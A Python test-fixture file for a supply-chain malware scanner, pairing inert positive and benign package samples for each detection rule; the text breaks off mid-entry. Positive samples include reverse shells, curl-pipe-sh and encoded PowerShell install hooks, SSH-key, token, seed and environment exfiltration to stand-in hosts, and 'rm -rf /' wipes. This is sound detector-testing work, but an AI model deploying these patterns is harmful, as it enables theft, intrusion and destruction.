"""Positive and benign samples for every heuristic rule (inert: hosts under example.invalid).

``SAMPLES[rule_id]`` holds ``positive`` and ``benign`` packages, each a mapping
of package-relative path to file content. The test module is parametrised over
:data:`chainwarden.analyzers.heuristics.RULES`, so a rule missing here fails.
"""

from __future__ import annotations

from typing import Final

Files = dict[str, str | bytes]

ELF_EXECUTABLE: Final = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00" + b"\x00" * 46
ELF_SHARED: Final = b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x03\x00" + b"\x00" * 46

SAMPLES: Final[dict[str, dict[str, list[Files]]]] = {
    "capability-install-hook": {
        "positive": [
            {
                "setup.py": (
                    "from setuptools import setup\n"
                    "from setuptools.command.install import install\n"
                    "class Hook(install):\n"
                    "    def run(self):\n"
                    "        install.run(self)\n"
                    "setup(name='x', cmdclass={'install': Hook})\n"
                )
            },
            {"package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node-gyp rebuild"}}'},
            {"x-startup.pth": "import os; os.environ.setdefault('X_MODE', 'fast')\n"},
        ],
        "benign": [
            {"setup.py": "from setuptools import setup, find_packages\nsetup(name='x', packages=find_packages())\n"},
            {"package.json": '{"name": "x", "version": "1.0.0", "scripts": {"test": "node test.js"}}'},
            {"x.pth": "./vendor\n"},
        ],
    },
    "capability-network": {
        "positive": [
            {"x/client.py": "import requests\n\ndef fetch(u):\n    return requests.get(u, timeout=5).json()\n"},
            {"index.js": "const https = require('https');\nmodule.exports = u => https.get(u, r => r.resume());\n"},
        ],
        "benign": [
            {"x/doc.py": "# uses requests.get in the docs only\nNAME = 'requests'\n\ndef f():\n    return NAME\n"},
            {"index.js": "const path = require('path');\nmodule.exports = p => path.join(p, 'x');\n"},
        ],
    },
    "capability-subprocess": {
        "positive": [
            {
                "x/git.py": "import subprocess\n\ndef head():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n"
            },
            {
                "lib.js": "const cp = require('child_process');\nexports.v = () => cp.execFileSync('git', ['--version']);\n"
            },
        ],
        "benign": [
            {"x/util.py": "import shutil\n\ndef which(n):\n    return shutil.which(n)\n"},
            {"lib.js": "exports.exec = (re, s) => re.exec(s);\n"},
        ],
    },
    "capability-dynamic-exec": {
        "positive": [
            {"x/tmpl.py": "def render(code, ns):\n    exec(code, ns)\n    return ns\n"},
            {"lib.js": "module.exports = expr => eval(expr);\n"},
        ],
        "benign": [
            {"x/tmpl.py": "import re\n\nPATTERN = re.compile('a+')\n\ndef ok(s):\n    return PATTERN.match(s)\n"},
            {"lib.js": "setTimeout(() => console.log('tick'), 10);\n"},
        ],
    },
    "capability-native-binary": {
        "positive": [{"x/bin/helper": ELF_EXECUTABLE, "x/__init__.py": ""}],
        "benign": [{"x/_speedups.so": ELF_SHARED, "x/__init__.py": ""}],
    },
    "malicious-decode-exec": {
        "positive": [
            {
                # a payload appended to an image, read back and executed (issue 10: payloads in non-code files)
                "x/__init__.py": (
                    "import os\n"
                    "data = open(os.path.join(os.path.dirname(__file__), 'logo.png'), 'rb').read()\n"
                    "exec(data[data.rfind(b'#!'):])\n"
                )
            },
            {
                "index.js": (
                    "const fs = require('fs');\n"
                    "const b = fs.readFileSync(__dirname + '/font.woff2');\n"
                    "eval(b.toString('utf8', 4000));\n"
                )
            },
            {"x/__init__.py": "import base64\nexec(base64.b64decode('cHJpbnQoImluZXJ0Iik='))\n"},
            {
                "x/loader.py": (
                    "import zlib, base64 as b\n"
                    "def load(blob):\n"
                    "    code = zlib.decompress(b.b64decode(blob))\n"
                    "    exec(code)\n"
                )
            },
            {"x/rot.py": "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))\n"},
            {"index.js": "eval(Buffer.from('Y29uc29sZS5sb2coImluZXJ0Iik=', 'base64').toString());\n"},
            {"index.js": "const f = new Function(atob('cmV0dXJuIDE='));\nf();\n"},
        ],
        "benign": [
            {
                # version files are code; images are read to be shown
                "x/__init__.py": (
                    "exec(open('x/_version.py').read())\n"
                    "ICON = open('x/icon.png', 'rb').read()\n"
                    "def show(view):\n    view.draw(ICON)\n"
                )
            },
            {
                # query-string decoding and bundlers running their own embedded modules
                "lib/boot.js": (
                    "const Module = require('module');\n"
                    "function boot(buf, n) {\n"
                    "  const code = Buffer.from(buf).slice(0, n).toString();\n"
                    "  return new Module('x', null)._compile(code, 'x');\n"
                    "}\n"
                    "function tpl(q) { return Function('return ' + decodeURIComponent(q)); }\n"
                    "function hex(c) { const h = require('crypto').createHash('sha1').update(String.fromCharCode(c));\n"
                    "  return Function('h', 'return h.digest()')(h); }\n"
                    "module.exports = { boot, tpl, hex };\n"
                ),
            },
            {
                "x/img.py": (
                    "import base64\n\ndef save(data, path):\n"
                    "    with open(path, 'wb') as fh:\n        fh.write(base64.b64decode(data))\n"
                )
            },
            {"index.js": "const s = Buffer.from('aGk=', 'base64').toString();\nconsole.log(s);\n"},
        ],
    },
    "malicious-download-exec": {
        "positive": [
            {
                # no threat keyword at all: fetch, write, run (nageir 2023)
                "angie/angie.py": (
                    "import requests, subprocess\n"
                    "r = requests.get('https://cdn.example.invalid/x.exe')\n"
                    "with open('windows.exe', 'wb') as f:\n    f.write(r.content)\n"
                    "subprocess.run('windows.exe', check=True)\n"
                )
            },
            {
                # DNS TXT records as a command channel
                "x/__init__.py": (
                    "import dns.resolver, subprocess\n"
                    "for r in dns.resolver.resolve('c.example.invalid', 'TXT'):\n"
                    "    subprocess.run(r.to_text(), shell=True)\n"
                )
            },
            {
                "index.js": (
                    "const dns = require('dns'); const { exec } = require('child_process');\n"
                    "dns.resolveTxt('c.example.invalid', (e, recs) => { exec(recs[0].join('')); });\n"
                )
            },
            {
                # node-gyp runs binding.gyp's <!(…) expansions on install
                "package.json": '{"name": "x", "version": "1.0.0"}',
                "binding.gyp": '{"targets": [{"target_name": "a", "sources": ["<!@(curl -s https://p.example.invalid/x | sh)"]}]}',
            },
            {
                "x/__init__.py": "import urllib.request\nexec(urllib.request.urlopen('https://p.example.invalid/s').read())\n"
            },
            {
                "x/upd.py": (
                    "import os, subprocess, urllib.request\n"
                    "def update():\n"
                    "    urllib.request.urlretrieve('https://p.example.invalid/a', '/tmp/a')\n"
                    "    os.chmod('/tmp/a', 0o755)\n"
                    "    subprocess.Popen(['/tmp/a'])\n"
                )
            },
            {
                "package.json": '{"name":"x","version":"1.0.0","scripts":{"preinstall":"curl -s https://p.example.invalid/i.sh | sh"}}'
            },
        ],
        "benign": [
            {
                # resolving TXT records (SPF, DKIM) and running a fixed tool is ordinary
                "x/mail.py": (
                    "import dns.resolver, subprocess\n"
                    "def spf(domain):\n"
                    "    return [r.to_text() for r in dns.resolver.resolve(domain, 'TXT')]\n"
                    "def version():\n"
                    "    return subprocess.run(['git', 'describe'], capture_output=True).stdout\n"
                )
            },
            {
                "package.json": '{"name": "x", "version": "1.0.0"}',
                "binding.gyp": (
                    '{"targets": [{"target_name": "a", '
                    '"include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include\\")"]}]}'
                ),
            },
            {
                # installers start msiexec on what they downloaded earlier: a launch, not a pipe into a shell
                "bin/reinstall_win.ps1": (
                    "$arguments = '/i', $msi, '/quiet'\nStart-Process msiexec.exe -ArgumentList $arguments -Wait\n"
                ),
                "package.json": '{"name": "x", "version": "1.0.0"}',
            },
            {
                "x/fetch.py": (
                    "import requests\n\ndef get(u):\n    r = requests.get(u, timeout=5)\n    return r.json()\n"
                )
            },
            {"package.json": '{"name":"x","version":"1.0.0","scripts":{"postinstall":"node-gyp rebuild"}}'},
        ],
    },
    "malicious-reverse-shell": {
        "positive": [
            {
                # code carried in a string, written to the home directory and started (ctfpipshell 2023)
                "setup.py": (
                    "import os, subprocess\nfrom setuptools import setup\n"
                    'CODE = """\nimport os\nos.system("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")\n"""\n'
                    "with open(os.path.expanduser('~/r.py'), 'w') as f:\n    f.write(CODE)\n"
                    "subprocess.Popen(['python3', os.path.expanduser('~/r.py')])\n"
                    "setup(name='x')\n"
                )
            },
            {
                "x/rs.py": (
                    "import os, socket, pty\n"
                    "def go():\n"
                    "    s = socket.socket()\n"
                    "    s.connect(('198.51.100.7', 4444))\n"
                    "    os.dup2(s.fileno(), 0)\n"
                    "    pty.spawn('/bin/sh')\n"
                )
            },
            {"x/sh.py": "import os\nos.system('bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')\n"},
            {
                "index.js": (
                    "const net = require('net'); const cp = require('child_process');\n"
                    "const sh = cp.spawn('/bin/sh', []);\n"
                    "const c = net.connect(4444, '198.51.100.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });\n"
                )
            },
        ],
        "benign": [
            {
                "x/srv.py": (
                    "import socket\n\ndef ping(host):\n    s = socket.create_connection((host, 80), 3)\n    s.close()\n"
                )
            },
            {
                "index.js": "const net = require('net');\nmodule.exports = p => net.createServer(s => s.end()).listen(p);\n"
            },
        ],
    },
    "malicious-credential-access": {
        "positive": [
            {
                "x/steal.py": (
                    "import os, requests\n"
                    "def grab():\n"
                    "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
                    "    requests.post('https://c.example.invalid/k', data=key)\n"
                )
            },
            {"x/aws.py": "import os\nCREDS = os.path.expanduser('~/.aws/credentials')\n"},
            {
                "index.js": (
                    "const fs = require('fs'); const https = require('https');\n"
                    "const t = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
                    "https.request({host: 'c.example.invalid', method: 'POST'}).end(t);\n"
                )
            },
            {
                # xrpl 4.2.1 (2025): the wallet's private key leaves in a header, through a helper
                "src/wallet/index.js": (
                    "const fetch = require('node-fetch');\n"
                    "function checkValidityOfSeed(seed) {\n"
                    "  fetch('https://c.example.invalid/xc', {method: 'POST', headers: {'ad-referral': seed}});\n"
                    "}\n"
                    "class Wallet {\n"
                    "  constructor(publicKey, privateKey) { checkValidityOfSeed(privateKey); }\n"
                    "}\n"
                    "module.exports = { Wallet };\n"
                )
            },
            {
                "x/wallet.py": (
                    "import requests\n"
                    "def restore(mnemonic):\n"
                    "    requests.post('https://c.example.invalid/r', json={'m': mnemonic})\n"
                )
            },
            {
                # an install hook's script reads a key and posts it on one command line (portionfatty12 2018)
                "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "sh run.sh"}}',
                "run.sh": 'a=$(cat $HOME/.ssh/id_rsa.pub) && curl -X POST -d "k=$a" https://c.example.invalid/k\n',
            },
            {
                # one npm token sent from an install script (issue 10)
                "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node i.js"}}',
                "i.js": "const https = require('https');\nhttps.get('https://x.example.invalid/' + process.env.NPM_TOKEN);\n",
            },
            {
                # one credential variable sent from setup.py is a theft, not telemetry (issue 10)
                "setup.py": (
                    "import os\nfrom urllib.request import urlopen\nfrom setuptools import setup\n"
                    "urlopen('https://x.example.invalid/?k=' + os.environ['AWS_SECRET_ACCESS_KEY'])\n"
                    "setup(name='x')\n"
                )
            },
            {
                # the instance's cloud token, fetched and posted on (artifact-lab 2024)
                "x/flag.py": (
                    "import requests\n"
                    "def send():\n"
                    "    t = requests.get('http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token')\n"
                    "    requests.post('https://c.example.invalid/log', data={'t': t.text})\n"
                )
            },
        ],
        "benign": [
            {"x/cfg.py": "import os\nCONFIG = os.path.expanduser('~/.config/x/settings.toml')\n"},
            {
                # an SDK sending its own API key from the environment when called is its job
                "x/sdk.py": (
                    "import os, requests\n"
                    "def complete(prompt):\n"
                    "    key = os.environ['EXAMPLE_API_KEY']\n"
                    "    return requests.post('https://api.example.invalid/v1', headers={'Authorization': key})\n"
                )
            },
            {
                "index.js": "const fs = require('fs');\nmodule.exports = () => fs.readFileSync('package.json', 'utf8');\n"
            },
            {
                # generation APIs send a random seed; certificate APIs upload a TLS private key
                "x/client.py": (
                    "import requests\n"
                    "def generate(prompt, seed):\n"
                    "    return requests.post('https://api.example.invalid/g', json={'p': prompt, 'seed': seed})\n"
                    "def upload_certificate(certificate, private_key):\n"
                    "    return requests.post('https://api.example.invalid/c', json={'private_key': private_key})\n"
                )
            },
            {
                "lib/sign.js": (
                    "const https = require('https');\n"
                    "function send(wallet, privateKey, tx) {\n"
                    "  const signed = wallet.sign(tx);\n"
                    "  https.request({host: 'rpc.example.invalid', method: 'POST'}).end(signed);\n"
                    "}\n"
                )
            },
        ],
    },
    "malicious-env-exfiltration": {
        "positive": [
            {
                "x/__init__.py": (
                    "import os, json, urllib.request\n"
                    "body = json.dumps(dict(os.environ)).encode()\n"
                    "urllib.request.urlopen('https://c.example.invalid/e', data=body)\n"
                )
            },
            {
                "index.js": (
                    "const https = require('https');\n"
                    "const d = JSON.stringify(process.env);\n"
                    "const r = https.request({hostname: 'c.example.invalid', method: 'POST'});\n"
                    "r.write(d); r.end();\n"
                )
            },
        ],
        "benign": [
            {
                "x/run.py": (
                    "import os, subprocess\n\ndef run(cmd):\n"
                    "    env = dict(os.environ, LC_ALL='C')\n"
                    "    return subprocess.run(cmd, env=env, check=True)\n"
                )
            },
            {"index.js": "const level = process.env.LOG_LEVEL || 'info';\nmodule.exports = level;\n"},
        ],
    },
    "malicious-exfil-endpoint": {
        "positive": [
            {"x/hook.py": "HOOK = 'https://discord.example.invalid/api/webhooks/1234567/abcdef'\n"},
            {"x/ip.py": "URL = 'http://203.0.113.50:8080/collect'\n"},
            {"index.js": "const u = 'https://api.telegram.org/bot123456:AAFakeToken/sendMessage';\n"},
        ],
        "benign": [
            {
                "x/net.py": "LOCAL = 'http://127.0.0.1:8000/'\nLAN = 'http://192.168.1.10/'\nDOCS = 'https://docs.example.invalid/'\n"
            },
            {"index.js": "const u = 'https://registry.npmjs.org/';\n"},
        ],
    },
    "malicious-obfuscation": {
        "positive": [
            {"index.js": "const m = require(['child', 'process'].join('_'));\nm.exec('id');\n"},
            {"lib/a.js": "const cp = module.constructor._load('child' + '_process');\ncp.exec('id');\n"},
            {"lib/b.js": "global['ev' + 'al'](process.argv[2]);\n"},
            {
                "x/__init__.py": "from pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000')\n"
            },
            {"x/hide.py": "import os\ngetattr(os, 'sys' + 'tem')('id')\n"},
            {
                "index.js": "var "
                + ", ".join(f"_0x{i:04x}a = {i}" for i in range(20))
                + ";\nfunction _0x1f2e(_0x3a1b, _0x4c2d) { return _0x3a1b + _0x4c2d; }\n"
            },
            {"lib.js": "module.exports = 1;" + " " * 300 + "require('child_process').exec('id');\n"},
            {
                # setup.py strings spelled in character-code arithmetic (pypi_malregistry campaign, 13 samples)
                "setup.py": (
                    "import sys\nfrom setuptools import setup\n"
                    "C = getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4])\n"
                    "P = ''.join(map(C, [(7 << 4) - 1, (3 << 5) + 5, (7 << 4) + 4]))\n"
                    "A = ''.join(map(C, [(((3 << 3) + 1) << 2) + 1, (7 << 4) - 2]))\n"
                    "B = ''.join(map(C, [(3 << 5) + 2, (7 << 4) - 3]))\n"
                    "setup(name='x')\n"
                )
            },
            {
                # a base64 literal that decodes to a command (helrmerter 2023)
                "x/run.py": (
                    "import base64, os\n"
                    "def go():\n"
                    "    os.system(base64.b64decode('"
                    + __import__("base64")
                    .b64encode(b"curl -s https://p.example.invalid/x -o x.py && pythonw x.py")
                    .decode()
                    + "').decode())\n"
                )
            },
            {
                "x/packed.py": (
                    "import marshal, base64\nCODE = marshal.loads(base64.b64decode('" + "QUFB" * 30 + "'))\n"
                )
            },
            {
                "package.json": (
                    '{"name": "x", "version": "1.0.0", "scripts": {"preinstall": '
                    '"powershell -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBwAC4AZQB4AGEAbQBwAGwAZQAuAGkAbgB2AGEAbABpAGQALwBhACcAKQA="}}'
                )
            },
            {
                # batch spelled from substrings of one variable, run from an install hook
                "package.json": '{"name": "x", "version": "1.0.0", "scripts": {"postinstall": "setup.bat"}}',
                "setup.bat": "@echo off\nset k=pcowlerhsu\n%k:~1,1%%k:~9,1%%k:~7,1%%k:~5,1% -o a.exe\n",
            },
        ],
        "benign": [
            {
                # plugin loaders build paths of their own files; joins build messages
                "lib/load.js": (
                    "const path = require('path');\n"
                    "const plugin = require('./plugins/' + process.argv[2]);\n"
                    "const msg = ['hello', 'world'].join(' ');\n"
                    "module.exports = { plugin, msg };\n"
                ),
            },
            {"x/plain.py": "import os\n\ndef name():\n    return getattr(os, 'name')\n"},
            {
                # future/six: exec reached by name, in plain sight
                "x/compat.py": "import builtins\nexec_ = getattr(builtins, 'exec')\n\ndef run(code, g):\n    exec_(code, g)\n"
            },
            {"tools/install.bat": "@echo off\nset PY=%PYTHON:~0,-1%\npowershell -NoProfile -File build.ps1\n"},
            {
                # base64 test vectors and images are data, not code
                "x/vectors.py": (
                    "import base64\n"
                    "PNG = '" + __import__("base64").b64encode(bytes(range(256))).decode() + "'\n"
                    "TEXT = '"
                    + __import__("base64").b64encode(b"The quick brown fox jumps over the lazy dog.").decode()
                    + "'\n"
                    "LETTERS = ''.join(map(chr, range(97, 123)))\n"
                )
            },
            {"index.js": "const hex = 0x1f;\nmodule.exports = { hex };\n"},
        ],
    },
    "malicious-dns-probe": {
        "positive": [
            {
                "package.json": '{"name":"x","version":"1.0.0","scripts":{"preinstall":"nslookup $(whoami).$(hostname).p.example.invalid"}}'
            },
            {
                "x/probe.py": (
                    "import socket, getpass\n"
                    "def probe():\n"
                    "    user = getpass.getuser()\n"
                    "    socket.gethostbyname(user + '.p.example.invalid')\n"
                )
            },
            {
                "index.js": (
                    "const dns = require('dns'); const os = require('os');\n"
                    "dns.lookup(os.hostname() + '.p.example.invalid', () => {});\n"
                )
            },
        ],
        "benign": [
            {"x/net.py": "import socket\n\ndef resolve(h):\n    return socket.gethostbyname(h)\n"},
            {"package.json": '{"name":"x","version":"1.0.0","scripts":{"test":"nslookup example.invalid"}}'},
        ],
    },
    "malicious-clipboard-hijack": {
        "positive": [
            {
                "x/clip.py": (
                    "import re, pyperclip\n"
                    "BTC = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,34}$')\n"
                    "def swap():\n"
                    "    if BTC.match(pyperclip.paste()):\n"
                    "        pyperclip.copy('bc1qinertinertinertinertinertinertinert00')\n"
                )
            },
            {
                "index.js": (
                    "const re = /0x[a-fA-F0-9]{40}/;\n"
                    "navigator.clipboard.readText().then(t => { if (re.test(t)) navigator.clipboard.writeText("
                    "'0x0000000000000000000000000000000000000000'); });\n"
                )
            },
        ],
        "benign": [
            {"x/copy.py": "import pyperclip\n\ndef share(text):\n    pyperclip.copy(text)\n"},
            {"index.js": "module.exports = t => navigator.clipboard.writeText(t);\n"},
        ],
    },
    "capability-fs-write": {
        "positive": [
            {"x/cache.py": "def save(path, data):\n    with open(path, 'wb') as out:\n        out.write(data)\n"},
            {"index.js": "const fs = require('fs');\nmodule.exports = (p, d) => fs.writeFileSync(p, d);\n"},
        ],
        "benign": [
            {"x/load.py": "def load(path):\n    with open(path) as source:\n        return source.read()\n"},
            {"index.js": "const fs = require('fs');\nmodule.exports = p => fs.readFileSync(p, 'utf8');\n"},
        ],
    },
    "malicious-destructive-write": {
        "positive": [
            {
                # node-ipc 10.1.1 (2022): a geolocation answer decides whether every file is overwritten
                "dao/geo.js": (
                    "import u from 'path'; import a from 'fs'; import o from 'https';\n"
                    "o.get('https://geo.example.invalid/ip', function (res) {\n"
                    "  res.on('data', function (chunk) {\n"
                    "    const dir = Buffer.from('Li8=', 'base64').toString('utf8');\n"
                    "    const c = JSON.parse(chunk.toString('utf8'));\n"
                    "    if (c.country_name === 'inert') {\n"
                    "      for (const f of a.readdirSync(dir)) { a.writeFileSync(u.join(dir, f), 'inert'); }\n"
                    "    }\n"
                    "  });\n"
                    "});\n"
                )
            },
            {"x/wipe.py": "import os, shutil\n\ndef wipe():\n    shutil.rmtree(os.path.expanduser('~'))\n"},
            {
                "x/over.py": (
                    "import os\nhome = os.environ['HOME']\n"
                    "for root, dirs, files in os.walk(home):\n"
                    "    for name in files:\n"
                    "        open(os.path.join(root, name), 'w').write('inert')\n"
                )
            },
            {
                "index.js": "const fs = require('fs'); const os = require('os');\nfs.rmSync(os.homedir(), {recursive: true});\n"
            },
            {"scripts/clean.sh": "#!/bin/sh\nrm -rf --no-preserve-root /\n"},
        ],
        "benign": [
            {
                # fs-extra's emptyDir: deletes the entries of the directory it is given
                "lib/empty.js": (
                    "const fs = require('fs'); const path = require('path');\n"
                    "module.exports = dir => { for (const f of fs.readdirSync(dir)) fs.rmSync(path.join(dir, f), "
                    "{recursive: true}); };\n"
                )
            },
            {
                "setup.py": (
                    "import os\nfrom setuptools import setup\n"
                    "for name in os.listdir('.'):\n"
                    "    if name.endswith('.pyc'):\n"
                    "        os.remove(name)\n"
                    "setup(name='x')\n"
                )
            },
            {"scripts/clean.sh": "#!/bin/sh\nrm -rf ./build ~/.cache/x\ncd dist && rm -rf *\n"},
        ],
    },
    "malicious-client-injection": {
        "positive": [
            {
                # pypi_malregistry's clipboard-extension campaign (2023): shortcuts re-pointed with --load-extension
                "setup.py": (
                    "import os, win32com.client\n"
                    "shell = win32com.client.Dispatch('WScript.Shell')\n"
                    "for link in os.listdir(os.path.expanduser('~/Desktop')):\n"
                    "    if link.endswith('.lnk'):\n"
                    "        s = shell.CreateShortCut(link)\n"
                    "        s.Arguments = '--load-extension=' + os.path.join(os.getenv('APPDATA'), 'Extension')\n"
                    "        s.save()\n"
                    "from setuptools import setup\nsetup(name='x')\n"
                )
            },
            {
                "x/inject.py": (
                    "import os\n"
                    "def inject(code):\n"
                    "    core = os.path.join(os.getenv('LOCALAPPDATA'), 'Discord', 'modules', 'discord_desktop_core')\n"
                    "    with open(os.path.join(core, 'index.js'), 'w') as f:\n"
                    "        f.write(code)\n"
                )
            },
        ],
        "benign": [
            {
                # browser automation passes extensions on its own command line, never through the user's shortcuts
                "x/browser.py": (
                    "import subprocess\n"
                    "def launch(chrome, ext):\n"
                    "    return subprocess.Popen([chrome, '--load-extension=' + ext, '--headless'])\n"
                )
            },
            {"x/docs.py": "HELP = 'Discord clients keep settings under discord/settings.json'\n"},
        ],
    },
    "malicious-command-shadowing": {
        "positive": [
            {
                "x-1.0.dist-info/entry_points.txt": "[console_scripts]\naws = x.wrap:main\nx = x.cli:main\n",
                "x-1.0.dist-info/METADATA": "Name: x\nVersion: 1.0\n",
            },
            {"package.json": '{"name": "git-helper", "version": "1.0.0", "bin": {"git": "wrap.js"}}', "wrap.js": "1\n"},
        ],
        "benign": [
            {"package.json": '{"name": "corepack", "version": "1.0.0", "bin": {"yarn": "y.js", "pnpm": "p.js"}}'},
            {
                "x-1.0.dist-info/entry_points.txt": "[console_scripts]\nx-aws = x.cli:main\n[x.plugins]\npip = x.p\n",
                "x-1.0.dist-info/METADATA": "Name: x\nVersion: 1.0\n",
            },
        ],
    },
    "malicious-silent-process": {
        "positive": [
            {
                "x/w.py": (
                    "import subprocess\nsubprocess.Popen(['updater.exe'], creationflags=subprocess.CREATE_NO_WINDOW)\n"
                )
            },
            {
                "index.js": (
                    "const cp = require('child_process');\n"
                    "cp.spawn('node', ['bg.js'], {detached: true, stdio: 'ignore'}).unref();\n"
                )
            },
        ],
        "benign": [
            {"x/w.py": "import subprocess\n\ndef run():\n    subprocess.run(['make'], check=True)\n"},
            {"index.js": "const cp = require('child_process');\ncp.spawn('node', ['x.js'], {stdio: 'inherit'});\n"},
        ],
    },
}


def _add(rule_id: str, *, positive: list[Files], benign: list[Files]) -> None:
    SAMPLES[rule_id]["positive"].extend(positive)
    SAMPLES[rule_id]["benign"].extend(benign)


# -- families from real published npm malware (issue 10), rewritten inert ---------------------------

_HOOK = '{{"name": "x", "version": "1.0.0", "scripts": {{"{hook}": "{command}"}}}}'

_add(
    "malicious-env-exfiltration",
    positive=[
        {
            # the environment under another name, with a fallback (@frontend-metrics/hotjar)
            "package.json": _HOOK.format(hook="preinstall", command="node index.js"),
            "index.js": (
                "const https = require('https');\n"
                "var data = process.env || {};\n"
                "const req = https.request({host: ['h', 'example', 'invalid'].join('.'), method: 'POST'});\n"
                "req.write(Buffer.from(JSON.stringify(data)).toString('base64'));\n"
                "req.end();\n"
            ),
        },
        {
            # host identity, hex-encoded into DNS labels under a callback service (persona-tool)
            "lookup.js": (
                "const dns = require('dns');\nconst os = require('os');\n"
                "const suffix = '.x.oast.fun';\n"
                "const data = {h: os.hostname(), c: process.cwd()};\n"
                "const hex = Buffer.from(JSON.stringify(data)).toString('hex');\n"
                "const resolveName = (name) => dns.resolve4(name, () => {});\n"
                "hex.match(/.{1,60}/g).forEach((chunk, i) => { resolveName(`${i}.${chunk}${suffix}`); });\n"
            ),
        },
    ],
    benign=[
        {
            # the environment read for one setting, under another name
            "index.js": (
                "const env = process.env || {};\n"
                "const https = require('https');\n"
                "https.get({host: 'registry.example.invalid', path: '/' + (env.REGISTRY_PATH || '')});\n"
            ),
        },
    ],
)
_add(
    "malicious-dns-probe",
    positive=[
        {
            # the host name in a DNS label, through a variable (electorn)
            "preinstall.js": (
                "const os = require('os');\nconst dns = require('dns');\n"
                "let target = `x.1.0.${os.hostname()}.example.invalid`;\n"
                "dns.lookup(target, () => {});\n"
            ),
        },
    ],
    benign=[
        {"ip.js": "const os = require('os');\nconst dns = require('dns');\ndns.lookup(os.hostname(), (e, a) => a);\n"},
    ],
)
_add(
    "malicious-download-exec",
    positive=[
        {
            # a hook script starts the next file itself; it runs what it fetched through a spelled global
            "package.json": _HOOK.format(hook="postinstall", command="node setup.js"),
            "setup.js": ("require('child_process').spawn('nohup node update.js >/dev/null 2>&1 &', {shell: true});\n"),
            "update.js": (
                "var http = require('http');\n"
                "http.get({host: 'h.example.invalid', path: '/u.json'}, function (response) {\n"
                "  var body = '';\n"
                "  response.on('data', function (d) { body += d; });\n"
                "  response.on('end', function () {\n"
                "    var f = this[(typeof this.x).charAt(0).toUpperCase() + 'unction'];\n"
                "    var o = new f(body); o();\n"
                "  });\n"
                "});\n"
            ),
        },
        {
            # a dropper writes its next stage as a batch file and runs it (the 2024 fake-job campaign)
            "tocall.js": (
                "const fs = require('fs');\nconst { exec } = require('child_process');\n"
                'const script = \'@echo off\\ncurl -o t.db -L "http://h.example.invalid/x" > nul 2>&1\\n'
                "rundll32 t.db, Run\\n';\n"
                "fs.writeFile('x.bat', script, (err) => { if (!err) exec('x.bat'); });\n"
            ),
        },
    ],
    benign=[
        {
            # dispatch on a method name with network data inside a class: not a hidden global
            "client.js": (
                "const https = require('https');\n"
                "class Client {\n"
                "  get(path, kind) {\n"
                "    https.get({host: 'api.example.invalid', path}, (res) => {\n"
                "      let body = '';\n"
                "      res.on('data', (d) => { body += d; });\n"
                "      res.on('end', () => this['on' + kind](body));\n"
                "    });\n"
                "  }\n"
                "}\nmodule.exports = Client;\n"
            ),
        },
        {
            # a script written and run that downloads nothing
            "gen.js": (
                "const fs = require('fs');\nconst { execSync } = require('child_process');\n"
                "fs.writeFileSync('build.sh', 'set -e\\nmake all\\n');\nexecSync('sh build.sh');\n"
            ),
        },
    ],
)
_add(
    "malicious-decode-exec",
    positive=[
        {
            # an install hook evaluates a script kept in a JSON file (depe-tool)
            "package.json": _HOOK.format(
                hook="preinstall",
                command=(
                    "node -e \\\"const fs = require('fs'); const raw = fs.readFileSync('p.json'); "
                    'eval(JSON.parse(raw).script);\\"'
                ),
            ),
            "p.json": '{"script": "console.log(1)"}',
        },
    ],
    benign=[
        {"index.js": "const fs = require('fs');\nmodule.exports = JSON.parse(fs.readFileSync('c.json', 'utf8'));\n"},
    ],
)
_add(
    "malicious-credential-access",
    positive=[
        {
            # an install hook printing the user's SSH keys (pizza-pasta)
            "package.json": _HOOK.format(hook="postinstall", command="find ~/.ssh | xargs cat || true"),
        },
        {
            # a key-stealing backdoor in a wallet library, sent in request headers (solana/web3.js 1.95.7)
            "lib/index.js": (
                "import bs58 from 'bs58';\n"
                "const QUEUE = new Set();\n"
                "class Loader {\n"
                "  static addToQueue(process) {\n"
                "    const b = bs58.encode(process);\n"
                "    if (QUEUE.has(b)) return;\n"
                "    fetch('https://h.example.invalid/q', {method: 'POST', headers: {'x-id': b.substring(0, 24)}})\n"
                "      .catch(() => {});\n"
                "  }\n"
                "}\n"
                "export class Keypair {\n"
                "  constructor(secretKey) {\n"
                "    try { this._secretKey = secretKey; } catch { this._secretKey = null; }\n"
                "    Loader.addToQueue(this._secretKey);\n"
                "  }\n"
                "}\n"
                "export const solana = Keypair;\n"
            ),
        },
        {
            # a crawler reading the user's files for seed phrases and sending them (ndoe-fethc)
            "unhook.js": (
                "const fs = require('fs/promises');\nconst os = require('os');\nconst path = require('path');\n"
                "const b39 = require('bip39');\n"
                "async function walk(dir) {\n"
                "  for (const e of await fs.readdir(dir, {withFileTypes: true})) {\n"
                "    const p = path.join(dir, e.name);\n"
                "    if (e.isDirectory()) { await walk(p); continue; }\n"
                "    const text = await fs.readFile(p, 'utf-8');\n"
                "    if (b39.validateMnemonic(text.trim())) {\n"
                "      await fetch('https://h.example.invalid/', {method: 'POST', body: JSON.stringify(text)});\n"
                "    }\n"
                "  }\n"
                "}\n"
                "walk(path.join(os.homedir(), 'Desktop'));\n"
            ),
        },
    ],
    benign=[
        {"package.json": _HOOK.format(hook="postinstall", command="ssh-keygen -l -f key.pub || true")},
        {
